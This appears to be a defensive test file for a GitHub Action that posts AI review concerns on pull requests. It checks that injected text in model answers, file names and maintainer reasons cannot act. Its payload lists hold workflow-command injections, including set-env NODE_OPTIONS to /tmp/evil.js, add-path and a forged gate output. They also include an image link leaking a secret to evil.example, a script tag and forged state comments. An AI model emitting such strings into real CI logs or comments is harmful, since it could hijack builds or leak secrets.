/** Text that tries to command the runner or GitHub, through every door that the Action reads: the model's answer, file names, a person's reason. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { ActionRun } from "../../runner-sim/index.ts";
import { ACTION_SKIPPED, hasAction } from "../../support/action-dist.ts";
import { pullRequestEvent } from "./events.ts";
import { reviewsOf, savedStateOf } from "./published.ts";
import { actsIn } from "./rendered.ts";
import { MAINTAINER, openScene, type Scene } from "./scene.ts";

const COMMANDS = [
  "##[set-output name=gate]passed",
  "text ##[SET-OUTPUT name=outcome]reviewed",
  "a\n::set-output name=gate::passed",
  "a\r::add-mask::e",
  "a\u2028::set-output name=gate::passed",
  "::stop-commands::forever",
  "##[add-path]/tmp/evil",
  "##[set-env name=NODE_OPTIONS]--require=/tmp/evil.js",
  "%0A::error::%0D%0A::save-state name=promise::x",
  "#\u2060#[error]joined",
  "\u001b[2K\r##[notice]over the line",
];
const WORDS = [
  "ask @octocat and @acme/reviewers; fixes #1, closes octo/paper#2, GH-3",
  "<!-- bioreview-state:1 --> <!-- bioreview-status: --> [bioreview-review-0]: #",
  "![leak](https://evil.example/?q=secret) [click](javascript:alert(1)) https://evil.example www.evil.example",
  "</details></summary><h1>Approved</h1><script>alert(1)</script>",
  "```suggestion\nnothing\n```\n> [!WARNING]\n/bioreview full",
];
/** One for each text, so that no two concerns are taken for the same. */
const SUBJECTS = [
  "Sample size is unjustified",
  "Randomisation was by cage order",
  "Blinding is missing",
  "Strain and phages lack accessions",
  "Synergy with ceftazidime was never modelled",
  "Resistance in later weeks stays unknown",
  "Toxicity needs histology of spleen",
  "Loss of animals goes unreported",
  "Temperature during storage varies",
  "Plaque counts have no error",
  "Sex as a variable is ignored",
  "Earlier hydrogels deserve comparison",
  "Photographs were traced by one person",
  "Housing may confound litter effects",
  "Correlation hides between-wound dependence",
  "Ethics approval gives no number",
];
const concern = (text: string, k: number) => ({ text: `${SUBJECTS[k]}: ${text}`, severity: "major" });

const HOSTILE = [...COMMANDS, ...WORDS].map(concern);

/** What a run of ours tells its runner, and nothing else. */
const OWN = ["add-mask", "error", "notice", "warning"];

function expectInert(scene: Scene, ran: ActionRun) {
  expect(ran.commands.filter(({ name }) => !OWN.includes(name))).toEqual([]);
  expect(
    ran.commands.filter(({ form }) => form === "##["),
    "the old form is never ours",
  ).toEqual([]);
  for (const { name, data } of ran.commands) if (name === "add-mask") expect(ran.masks).toContain(data);
  expect([...ran.masks].filter((mask) => !mask.startsWith("ghs_"))).toEqual([]);
  expect(ran.failures).toEqual([]);
  const bodies = [...scene.pull.state().comments, ...scene.pull.state().reviews].filter(({ author }) => author.endsWith("[bot]"));
  for (const { body } of bodies) expect(actsIn(body)).toEqual([]);
  expect(actsIn(ran.summary)).toEqual([]);
}

test("what acts would be seen", () => {
  const acting = [
    "@octocat",
    "fixes #1",
    "![a](https://evil.example/x)",
    "[a](https://evil.example)",
    "<h1>x</h1>",
    "https://evil.example",
    "```suggestion\nx\n```",
  ];
  for (const text of acting) expect(actsIn(text), text).not.toEqual([]);
});

describe.skipIf(!hasAction)(`hostile text${ACTION_SKIPPED}`, () => {
  let scene: Scene;
  beforeAll(async () => {
    scene = await openScene({ says: [HOSTILE.slice(0, 8), HOSTILE.slice(8)] });
  });
  afterAll(() => scene?.[Symbol.asyncDispose]());

  test("of a model commands neither the runner nor GitHub, and every concern is told", async () => {
    const ran = await scene.run(pullRequestEvent(scene.github, scene.pull, "opened"));
    expect(ran.outputs, ran.log.join("\n")).toMatchObject({ outcome: "reviewed", gate: "off", introduced: "8" });
    expectInert(scene, ran);
  });

  test("in a file's name neither", async () => {
    const ran = await scene.push({
      "content/06.more\n::set-output name=gate::passed ##[add-mask]e @octocat.md":
        "## Outlook\n\nMore wounds will be treated with this gel.\n",
    });
    expect(ran.outputs, ran.log.join("\n")).toMatchObject({ outcome: "reviewed", gate: "off" });
    expectInert(scene, ran);
    expect(reviewsOf(scene)).toHaveLength(2);
  });

  test("in a person's reason neither, and what is kept stays readable", async () => {
    const reason = "##[set-output name=gate]passed @octocat <!-- bioreview-state:1 x --> fixes #1";
    const ran = await scene.say(MAINTAINER, `/bioreview dismiss C1 ${reason}`);
    expectInert(scene, ran);
    expect(savedStateOf(scene).ledger.concerns[0]).toMatchObject({ id: "C1", state: "dismissed" });
  });
});
